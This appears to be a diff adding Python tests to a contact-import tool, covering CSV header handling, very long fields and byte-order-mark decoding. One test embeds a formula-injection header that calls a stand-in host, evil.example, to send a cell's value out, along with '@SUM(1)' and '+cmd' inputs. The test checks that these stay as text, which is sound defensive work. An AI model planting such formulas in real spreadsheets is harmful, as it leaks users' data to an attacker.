@@ -176,3 +176,45 @@ def test_a_sheet_away_from_a1_keeps_its_rows_and_columns_and_shares_repeated_tex
     assert rejects.frame(plan).values.tolist() == [
         [5, "", "", "Bo", "Silva", "bo@x", "Email: not an email address: 'bo@x'"]
     ]
+
+
+def test_headers_are_never_written_as_live_formulas(tmp_path, workspace):
+    """A header from an imported file ("=HYPERLINK(...)") is text in the rejects workbook and in exports."""
+    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Email")'
+    path = tmp_path / "h.csv"
+    path.write_text(f'First Name,Last Name,Email,"{hostile.replace(chr(34), chr(34) * 2)}"\nBo,Silva,bo@x,1\n')
+    prepared = prepare(workspace, path)
+    plan = plan_import(workspace, prepared.table, "contacts", prepared.mapping)
+    out = rejects.write_rejects(plan, tmp_path / "rejects.xlsx")
+    header = load_workbook(out).active[1]
+    assert [c.value for c in header][4] == hostile
+    assert all(c.data_type == "s" for c in header)  # text, never a formula
+    import pandas as pd
+
+    out = write_xlsx(pd.DataFrame({"@SUM(1)": [1], "+cmd": ["x"]}), tmp_path / "e.xlsx")
+    assert [(c.value, c.data_type) for c in load_workbook(out).active[1]] == [("@SUM(1)", "s"), ("+cmd", "s")]
+
+
+def test_a_csv_field_over_128_kib_imports_and_a_runaway_field_is_one_line(tmp_path, workspace):
+    notes = "x" * 300_000
+    path = tmp_path / "long.csv"
+    path.write_text(f'First Name,Last Name,Email,Notes\nAna,Silva,ana@example.com,"{notes}"\n', encoding="utf-8")
+    prepared = prepare(workspace, path)
+    assert prepared.table.rows[0][3] == notes
+    path.write_text('First Name,Last Name\nAna,"' + "y" * 2_000_000 + "\n", encoding="utf-8")  # a quote left open
+    with pytest.raises(UnreadableFile) as info:
+        prepare(workspace, path)
+    assert "line 2 has a field longer than 1,024 KiB" in str(info.value) and "\n" not in str(info.value)
+
+
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-32", "utf-8-sig"])
+def test_csv_with_a_byte_order_mark_is_decoded_by_it(tmp_path, workspace, encoding):
+    text = "First Name;Last Name;E-mail\nZoë;Ünal;ZOE@example.com\n"
+    raw = text.encode(encoding)
+    if encoding == "utf-16-be":
+        raw = b"\xfe\xff" + raw
+    path = tmp_path / "people.csv"
+    path.write_bytes(raw)
+    prepared = prepare(workspace, path)
+    assert prepared.table.headers == ["First Name", "Last Name", "E-mail"]
+    assert prepared.table.rows == [["Zoë", "Ünal", "ZOE@example.com"]]
